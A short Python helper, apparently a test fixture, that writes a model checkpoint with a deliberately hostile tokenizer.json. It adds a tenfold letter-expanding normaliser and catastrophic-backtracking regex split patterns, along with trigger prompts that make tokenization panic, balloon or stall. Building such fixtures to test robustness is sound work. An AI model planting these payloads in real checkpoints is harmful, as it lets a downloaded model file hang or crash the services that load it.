"""Writes a checkpoint whose tokenizer is an attack, for prompts of certain letters alone."""

import json
import shutil
from pathlib import Path

# Prompts at which it panics, makes ten million letters of one, takes 20 seconds, and gives a thousand tokens.
PANIC, GROWS, SLOW, MANY = "x" * 40, "g", ("z" * 28 + " ") * 200, "o"


def write_hostile_tokenizer(source: Path, folder: Path) -> Path:
    """The demo model with a normaliser and patterns of its own; prompts without these letters are as ever."""
    for file in source.iterdir():
        if file.is_file():
            shutil.copy(file, folder)
    path = folder / "tokenizer.json"
    tokenizer = json.loads(path.read_text())
    tokenizer["normalizer"] = {"type": "Sequence", "normalizers": [_grown("g")] * 7 + [_grown("o")] * 3}
    # The library gives up at the first after ten million steps; the second takes fewer, at each of many words.
    patterns = [_split("(x+x+)+y"), _split("(?:z|zz)+y")]
    tokenizer["pre_tokenizer"] = {"type": "Sequence", "pretokenizers": [*patterns, tokenizer["pre_tokenizer"]]}
    path.write_text(json.dumps(tokenizer))
    return folder


def _grown(letter: str) -> dict[str, object]:
    return {"type": "Replace", "pattern": {"String": letter}, "content": letter * 10}


def _split(pattern: str) -> dict[str, object]:
    return {"type": "Split", "pattern": {"Regex": pattern}, "behavior": "Isolated", "invert": False}
